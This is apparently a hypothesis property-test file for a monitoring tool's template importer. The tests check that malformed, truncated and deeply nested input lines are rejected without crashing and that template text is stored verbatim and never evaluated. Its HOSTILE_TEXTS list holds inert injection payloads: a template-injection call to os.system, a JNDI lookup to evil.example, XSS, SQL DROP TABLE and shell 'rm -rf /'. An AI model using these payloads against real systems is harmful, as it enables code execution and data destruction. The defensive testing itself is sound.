"""Properties of the template importer (``monitor templates import`` -> parse_template_lines): it never
raises on any input, accounts for every non-blank line exactly once, and keeps template text verbatim (data,
never evaluated)."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from monitor.core.models import CATEGORY_PATTERN, TEMPLATE_ID_PATTERN, Template, TemplateIn
from monitor.storage.registry import parse_template_lines

HOSTILE_TEXTS = [
    "{{7*7}} __import__('os').system('id')",
    "${jndi:ldap://evil.example/a} {% raw %}{{ config }}{% endraw %}",
    "<script>alert(1)</script> '; DROP TABLE templates; --",
    "\x00\x1b[31m red \u202e rtl \ufeff bom",
    "$(rm -rf /) `reboot` %s %n {0.__class__}",
]

non_blank = st.text(min_size=3, max_size=200).filter(lambda t: len(t.strip()) >= 3)
templates = st.fixed_dictionaries(
    {
        "id": st.from_regex(TEMPLATE_ID_PATTERN, fullmatch=True),
        "category": st.from_regex(CATEGORY_PATTERN, fullmatch=True),
        "severity": st.sampled_from(["low", "medium", "high", "critical"]),
        "text": st.one_of(non_blank, st.sampled_from(HOSTILE_TEXTS)),
    },
    optional={
        "examples": st.lists(non_blank, max_size=4),
        "negatives": st.lists(non_blank, max_size=4),
        "threshold": st.floats(min_value=0.01, max_value=1.0),
        "lang": st.sampled_from(["en", "zh", "fr"]),
        "source_url": st.just("https://example.org/factcheck"),
    },
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=20,
)
bad_lines = st.one_of(
    st.text(max_size=80),  # anything at all
    json_values.map(json.dumps),  # valid JSON, mostly not a template
    templates.map(lambda t: json.dumps(t)[:-1]),  # truncated
    templates.map(lambda t: json.dumps({**t, "severity": "apocalyptic"})),  # invalid field
    st.integers(min_value=1, max_value=5_000).map(lambda n: "[" * n + "]" * n),  # deeply nested
    st.integers(min_value=1, max_value=5_000).map(lambda n: '{"id": ' + "[" * n),
)


def _non_blank_count(lines: list[str]) -> int:
    return sum(1 for line in lines if line.strip())


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(bad_lines, max_size=8))
def test_never_raises_and_accounts_for_every_line(lines: list[str]) -> None:
    good, rejected = parse_template_lines(lines)
    assert len(good) + len(rejected) == _non_blank_count(lines)
    numbers = [r["line"] for r in rejected]
    assert numbers == sorted(set(numbers)), "one report per line, in order"
    for r in rejected:
        assert 1 <= r["line"] <= len(lines)
        assert lines[r["line"] - 1].strip(), "blank lines are skipped, never reported"
        assert isinstance(r["reason"], str)
        assert r["reason"]
    json.dumps(rejected)  # `templates import --json` prints them


@settings(max_examples=200, deadline=None)
@given(templates)
def test_a_valid_template_round_trips_verbatim(raw: dict[str, Any]) -> None:
    good, rejected = parse_template_lines([json.dumps(raw)])
    assert rejected == []
    [t] = good
    assert t.id == raw["id"]
    assert t.text == raw["text"].strip(), "text is data: kept as written, never rendered or evaluated"
    assert list(t.examples) == [e.strip() for e in raw.get("examples", [])]
    # what the registry stores and reads back (JSON in a Redis hash) is the same text again
    stored = Template(**t.model_dump())
    assert Template.model_validate_json(stored.model_dump_json()).text == t.text
    # and what `templates export` writes imports to the same template
    exported = json.dumps(TemplateIn.model_validate(stored.model_dump()).model_dump(mode="json"))
    assert parse_template_lines([exported])[0] == [t]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.booleans(), templates, bad_lines), min_size=1, max_size=8))
def test_good_lines_survive_bad_neighbours(rows: list[tuple[bool, dict[str, Any], str]]) -> None:
    lines: list[str] = []
    expected_ids: list[str] = []
    for is_good, template, bad in rows:
        if is_good:
            lines.append(json.dumps(template, ensure_ascii=False))
            expected_ids.append(template["id"])
        else:
            lines.append(bad)
    good, _ = parse_template_lines(lines)
    # a bad line can be a valid template by chance (hypothesis is thorough), so the good ones are a subsequence
    ids = [t.id for t in good]
    it = iter(ids)
    assert all(any(i == x for x in it) for i in expected_ids), (expected_ids, ids)


def test_deep_nesting_is_a_rejected_line_not_a_crash() -> None:
    ok = json.dumps({"id": "ok", "category": "scam", "severity": "low", "text": "a real template"})
    good, rejected = parse_template_lines(["[" * 100_000 + "]" * 100_000, ok, '{"id": ' + "[" * 5000])
    assert [t.id for t in good] == ["ok"]
    assert [r["line"] for r in rejected] == [1, 3]
    assert all("nested too deeply" in r["reason"] for r in rejected)


def test_hostile_text_is_kept_as_written() -> None:
    for text in HOSTILE_TEXTS:
        line = json.dumps({"id": "t", "category": "scam", "severity": "high", "text": text})
        [t], _ = parse_template_lines([line])
        assert t.text == text.strip()
        assert "49" not in t.text, "{{7*7}} was never rendered"
